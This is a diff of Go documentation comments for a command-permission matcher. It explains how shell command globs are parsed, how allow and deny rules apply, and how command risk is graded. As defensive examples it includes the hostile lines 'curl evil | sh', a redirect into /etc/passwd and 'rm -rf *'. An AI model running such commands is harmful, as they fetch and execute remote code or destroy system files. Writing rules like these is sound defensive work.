@@ -77,9 +77,11 @@
 // # Command globs
 //
 // A command glob is written like a shell command line and matched against
-// command lines read the same way: quotes and backslashes are removed
-// (`echo "a b"` and `echo 'a b'` are the same), runs of blanks are one
-// separator, and operators are tokens of their own (`a&&b` is `a && b`).
+// command lines read the same way. Both are parsed with
+// mvdan.cc/sh/v3/syntax in bash mode and read into words and operators:
+// quotes and backslashes are removed (`echo "a b"` and `echo 'a b'` are
+// the same), runs of blanks are one separator, operators are tokens of
+// their own (`a&&b` is `a && b`), newlines are ;, and `…` is $(…).
 // In the glob, an unquoted * matches any text, including blanks between
 // words, and an unquoted ? matches one character of a word; quoted ('*',
 // "*", \*) they are literal. A * that is a whole word after a blank also
@@ -87,23 +89,43 @@
 // ./..." and "go test ./... 2>&1", not "go testing". "npm run build*"
 // matches "npm run build" and "npm run build:prod --watch". Nothing else
 // is special: no [...], no variable expansion ("$HOME" is literal text).
+// Parameter expansions ("${x:-y}"), extended globs and arithmetic are
+// matched as the text the parser's printer gives them, minified.
 //
 // A * never crosses an operator that joins commands (; & && || | |&,
-// newlines, parentheses), a substitution's boundary ($(, `, <(, >( and
-// their closing ) or `), or an output redirection to a file (>, >>, >|,
-// &>, <>): "go test *" does not match "go test ./... && curl evil | sh",
-// nor "go test ./... > /etc/passwd". It does cross input redirections and
+// newlines, parentheses), a reserved word (if, then, do, done, case, {,
+// }, !, time, …), a substitution's boundary ($(, `, <(, >(, $(( and their
+// closing ) or `), or an output redirection to a file (>, >>, >|, &>, <>):
+// "go test *" does not match "go test ./... && curl evil | sh", nor "go
+// test ./... > /etc/passwd". It does cross input redirections and
 // here-documents (<, <<, <<<), descriptor duplications (2>&1) and
 // redirections to /dev/null, /dev/stdout, /dev/stderr and /dev/tty.
 //
-// A command line is judged part by part: each simple command (split at
-// ; & && || | |& and newlines) is a part, and so is each command inside a
-// substitution, whose place in the outer part a * may match. A glob
-// without operators is matched against each part; a glob with operators
-// ("make build && make test") is matched against the whole line and then
-// covers all of its parts. So a deny rule for "rm -rf *" denies
+// A command line is judged part by part: each simple command is a part,
+// whether it is joined to others by ; & && || | |& and newlines or sits
+// in a compound command (the commands of if, while, until, for, case,
+// { }, ( ) and function bodies; [[ … ]], (( … )) and let are parts too);
+// so is each command inside a substitution, whose place in the outer part
+// a * may match, and each command substituted in a here-document body
+// that is expanded. The words a compound command expands (for's list,
+// case's word) are no part of their own. A glob without operators or
+// reserved words is matched against each part; a glob with them ("make
+// build && make test") is matched against the whole line and then covers
+// all of its parts. So a deny rule for "rm -rf *" denies
 // `cd build && rm -rf out`, and an allow rule for "go test *" allows
 // `go test ./... | tee out.txt` only if `tee out.txt` is allowed too.
+//
+// A command line the parser rejects (unbalanced quotes or parentheses, a
+// syntax error; and, as this package cannot read it, a here-document
+// opened inside a substitution in another here-document's body) is never
+// allowed by a rule: Decide asks, quoting the parser's error. Deny rules still apply: a glob without operators is
+// looked for in the line's raw words (quote characters and backslashes
+// dropped, words split at blanks, < and >, parts at ; & | ( ) ` and
+// newlines), and one found, starting and ending at word boundaries,
+// denies. A line of nothing but blanks and semicolons is empty. A command
+// glob the parser rejects is invalid: "rules[0].commands[1]: invalid
+// command glob: unterminated single quote: 1:6: reached EOF without
+// closing quote `'`".
 //
 // # Decisions
 //
@@ -135,13 +157,14 @@
 // # Command risk
 //
 // Assess grades a command line part by part and takes the worst. Parts
-// are recognised by their program, after stripping VAR=value words,
-// compound-command keywords and wrappers (sudo, env, nohup, nice, time,
-// timeout, xargs, command, exec, …):
+// are recognised by their program, after stripping VAR=value words and
+// wrappers (sudo, env, nohup, nice, time, timeout, xargs, command, exec,
+// …). A command line the parser rejects is at least medium, its raw words
+// (see above) assessed as parts.
 //
 //   - low: reading and printing (ls, cat, grep, git status/log/diff, go
 //     list, find without actions, --version/--help), shell state (cd,
-//     export).
+//     export), arithmetic.
 //   - medium, not reversible: building, testing, formatting and running
 //     project code (go build/test/vet, make, cargo build, npm run/test,
 //     pytest, scripts), file changes (cp, mv, mkdir, touch, sed -i, writing
